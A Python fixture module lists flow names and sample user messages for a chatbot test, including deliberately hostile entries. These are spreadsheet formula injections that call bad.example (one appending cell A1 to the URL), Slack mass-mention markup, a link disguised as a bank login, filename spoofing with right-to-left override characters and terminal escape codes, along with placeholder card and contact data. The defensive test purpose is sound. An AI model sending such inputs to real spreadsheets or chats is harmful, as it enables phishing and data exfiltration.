"""What the sample chatbot's flows are called and what people write to it; data only.

Some of it is what strangers write to do harm: none of it may ring, link, run or break a line.
"""

from __future__ import annotations

from typing import NamedTuple


class Flow(NamedTuple):
    """A flow; `weight` is how often people reach it without typing."""

    id: str
    name: str | None
    weight: int


class Text(NamedTuple):
    """A message, how often it is written, and which flow it starts."""

    text: str
    weight: int
    flow: int


WELCOME, MENU, ORDER, HOURS, HUMAN = range(5)

FLOWS = (
    Flow("64f0a1c29b3e7d0012ab4c01", "Welcome", 40),
    Flow("64f0a1c29b3e7d0012ab4c02", "Main Menu", 160),
    Flow("64f0a1c29b3e7d0012ab4c03", "Where Is My Order?", 90),
    Flow("64f0a1c29b3e7d0012ab4c04", "Opening Hours", 60),
    Flow("64f0a1c29b3e7d0012ab4c05", "Talk to a Human", 45),
    Flow("64f0a1c29b3e7d0012ab4c06", "Returns & Refunds", 38),
    Flow("64f0a1c29b3e7d0012ab4c07", "Book a Table", 30),
    Flow("64f0a1c29b3e7d0012ab4c08", "<!channel> Welcome", 6),
    Flow("64f0a1c29b3e7d0012ab4c09", "*bold* _and_ `code`", 5),
    Flow("64f0a1c29b3e7d0012ab4c0a", "Rückgabe \u202egnp.exe\u202c", 4),
    Flow("64f0a1c29b3e7d0012ab4c0b", "Survey: " + "how did we do, what can we do better? " * 8, 9),
    Flow("64f0a1c29b3e7d0012ab4c0c", "🎁 Winter Sale 👩‍👩‍👧‍👦", 12),
    Flow("64f0a1c29b3e7d0012ab4c0d", "Untitled Flow", 14),
    Flow("64f0a1c29b3e7d0012ab4c0e", "Untitled Flow", 7),
    Flow("64f0a1c29b3e7d0012ab4c0f", "=HYPERLINK(\"https://bad.example\",\"Menu\")", 3),
    Flow("64f0a1c29b3e7d0012ab4c10", None, 2),
)  # fmt: skip

# One flow each, as Flow XO has it; several keep the name that it gives a new one.
BROADCASTS = ("Monthly News", "Untitled Broadcast", "Untitled Broadcast", "Weekend Offer")

TEXTS = (
    Text("hi", 90, WELCOME),
    Text("/start", 60, WELCOME),
    Text("menu", 85, MENU),
    Text("where is my order", 80, ORDER),
    Text("opening hours", 55, HOURS),
    Text("talk to a human", 50, HUMAN),
    Text("Hi", 30, WELCOME),
    Text("hi!", 18, WELCOME),
    Text("hello", 35, WELCOME),
    Text("track order", 33, ORDER),
    Text("refund", 30, 5),
    Text("book a table for two", 24, 6),
    Text("are you open on sunday?", 22, HOURS),
    Text("thanks", 28, MENU),
    Text("👍", 16, MENU),
    Text("Guten Tag, haben Sie heute geöffnet?", 9, HOURS),
    Text("مرحبا، أين طلبي؟", 7, ORDER),
    Text("=HYPERLINK(\"https://bad.example/?q=\"&A1,\"Refund\")", 6, 5),
    Text("<!channel> free pizza in the kitchen", 5, MENU),
    Text("<!everyone> <@U012ABCDEF> look", 3, MENU),
    Text("<https://bad.example|https://bank.example/login>", 4, MENU),
    Text("*stop* _all_ ~this~ `now` > quoted", 3, MENU),
    Text("&lt;!here&gt; &amp;amp;", 2, MENU),
    Text("my mail is jane.doe@example.com", 5, HUMAN),
    Text("call me on +44 20 7946 0958", 4, HUMAN),
    Text("card 4111 1111 1111 1111 exp 04/29", 3, 5),
    Text("https://shop.example/reset?token=9f8e7d6c5b4a39281706", 3, HUMAN),
    Text("\u202egnp.exe si siht\u202c", 3, MENU),
    Text("a" + "\u200b" * 400 + "b", 2, MENU),
    Text("Z̷̢͙̞̄a̶͎̓l̸̰̈́g̵̱͒o̴͉͝", 2, MENU),
    Text("first line\nsecond line\r\nthird\tcolumn", 3, HUMAN),
    Text("+1 (555) 010-9999", 2, HUMAN),
    Text("@SUM(A1:A9)", 2, MENU),
    Text("\x1b[31mred\x07", 2, MENU),
    Text("help " * 150, 2, HUMAN),
    Text("   ", 1, MENU),
)  # fmt: skip
